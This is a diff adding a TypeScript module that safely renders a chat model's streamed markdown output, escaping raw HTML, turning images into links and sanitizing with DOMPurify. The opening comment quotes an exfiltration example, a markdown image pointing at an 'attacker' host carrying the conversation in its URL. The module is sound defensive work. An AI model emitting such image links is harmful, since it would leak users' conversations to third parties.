@@ -1,0 +1,140 @@
+// Model output is untrusted. Markdown is rendered with marked, raw HTML in it
+// is shown as text, images become links (a markdown image is a known way to
+// send the conversation to a third-party host: ![](https://attacker/?q=…)),
+// and DOMPurify sanitizes the result: no scripts, no event handlers, links only
+// to https: and mailto:, opened with rel="noopener noreferrer".
+import DOMPurify from 'dompurify';
+import { Marked, type Tokens } from 'marked';
+import { BlockSplitter } from './block-splitter';
+
+type Highlighter = { highlight(code: string, options: { language: string }): { value: string }; getLanguage(name: string): unknown };
+let highlighter: Highlighter | null = null;
+let loadingHighlighter: Promise<void> | null = null;
+
+/** Loads highlight.js lazily (it is not needed for first paint); resolves when code can be highlighted. */
+export function loadHighlighter(): Promise<void> {
+  return (loadingHighlighter ??= import('highlight.js/lib/common').then((m) => {
+    highlighter = m.default as unknown as Highlighter;
+  }));
+}
+
+export function highlighterReady(): boolean {
+  return highlighter !== null;
+}
+
+const ESCAPES: Record<string, string> = { '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;' };
+export function escapeHtml(text: string): string {
+  return text.replace(/[&<>"']/g, (c) => ESCAPES[c]!);
+}
+
+const SAFE_URL = /^(?:https:|mailto:)/i;
+
+function codeBlock(text: string, lang: string | undefined, highlight: boolean): string {
+  const language = (lang ?? '').trim().split(/\s+/)[0]!.toLowerCase().replace(/[^a-z0-9+#_-]/g, '');
+  let body = escapeHtml(text);
+  if (highlight && highlighter && language && highlighter.getLanguage(language)) {
+    // highlight.js escapes the code itself and only adds <span class="hljs-…">.
+    body = highlighter.highlight(text, { language }).value;
+  }
+  return (
+    `<div class="code-block"><div class="code-head"><span class="code-lang">${escapeHtml(language || 'text')}</span>` +
+    `<button type="button" class="copy-code" aria-label="Copy code">Copy</button></div>` +
+    `<pre><code class="hljs${language ? ` language-${language}` : ''}">${body}</code></pre></div>`
+  );
+}
+
+function createMarked(highlight: boolean): Marked {
+  return new Marked({
+    gfm: true,
+    async: false,
+    renderer: {
+      // Raw HTML from the model is shown, never parsed.
+      html(token: Tokens.HTML | Tokens.Tag) {
+        return escapeHtml(token.text);
+      },
+      // Remote images would load by themselves; show a link the user can choose to open.
+      image(token: Tokens.Image) {
+        const label = escapeHtml(token.text || 'image');
+        return SAFE_URL.test(token.href) ? `<a class="image-link" href="${escapeHtml(token.href)}">🖼 ${label}</a>` : `[${label}]`;
+      },
+      code(token: Tokens.Code) {
+        return codeBlock(token.text, token.lang, highlight);
+      },
+    },
+  });
+}
+
+const plain = createMarked(false);
+const highlighted = createMarked(true);
+
+let hooksInstalled = false;
+function installHooks(): void {
+  if (hooksInstalled) return;
+  hooksInstalled = true;
+  DOMPurify.addHook('afterSanitizeAttributes', (node) => {
+    // Inputs exist only as task-list checkboxes.
+    if (node.tagName === 'INPUT' && (node.getAttribute('type') !== 'checkbox' || !node.hasAttribute('disabled'))) {
+      node.remove();
+      return;
+    }
+    if (node.tagName === 'A') {
+      const href = node.getAttribute('href');
+      if (href === null || !SAFE_URL.test(href)) node.removeAttribute('href');
+      node.setAttribute('target', '_blank');
+      node.setAttribute('rel', 'noopener noreferrer nofollow');
+    }
+  });
+}
+
+const ALLOWED_TAGS = [
+  'a', 'p', 'br', 'hr', 'strong', 'em', 'del', 's', 'code', 'pre', 'blockquote', 'ul', 'ol', 'li', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6',
+  'table', 'thead', 'tbody', 'tr', 'th', 'td', 'span', 'div', 'button', 'input', 'sup', 'sub',
+];
+const ALLOWED_ATTR = ['href', 'title', 'class', 'type', 'aria-label', 'align', 'start', 'checked', 'disabled', 'colspan', 'rowspan'];
+
+export function sanitize(html: string): string {
+  installHooks();
+  return DOMPurify.sanitize(html, {
+    ALLOWED_TAGS,
+    ALLOWED_ATTR,
+    ALLOWED_URI_REGEXP: SAFE_URL,
+    ALLOW_DATA_ATTR: false,
+    // Task-list checkboxes only; no other form controls.
+    FORBID_CONTENTS: ['script', 'style', 'template', 'noscript', 'iframe', 'object', 'svg', 'math'],
+  });
+}
+
+/** A whole finished message (or one finished block) as sanitized HTML. */
+export function renderMarkdown(text: string, highlight = true): string {
+  return sanitize((highlight ? highlighted : plain).parse(text) as string);
+}
+
+/**
+ * A reply in progress: each chunk returns only the newly finished blocks
+ * (parsed once) and the open tail (re-rendered), so the cost per chunk stays
+ * flat however long the reply grows.
+ */
+export class StreamingMarkdown {
+  private readonly splitter = new BlockSplitter();
+
+  push(chunk: string): { blocks: string[]; tail: string } {
+    const blocks = this.splitter.push(chunk).map((b) => renderMarkdown(b));
+    return { blocks, tail: this.renderTail() };
+  }
+
+  finish(): string[] {
+    return this.splitter.flush().map((b) => renderMarkdown(b));
+  }
+
+  private renderTail(): string {
+    const tail = this.splitter.tail;
+    if (tail === '') return '';
+    // An open code block: show the code as text so far, highlight it once it closes.
+    if (this.splitter.inCode) {
+      const [first, ...rest] = tail.split('\n');
+      const lang = first!.replace(/^\s*(`{3,}|~{3,})/, '');
+      return codeBlock(rest.join('\n'), lang, false);
+    }
+    return renderMarkdown(tail, false);
+  }
+}
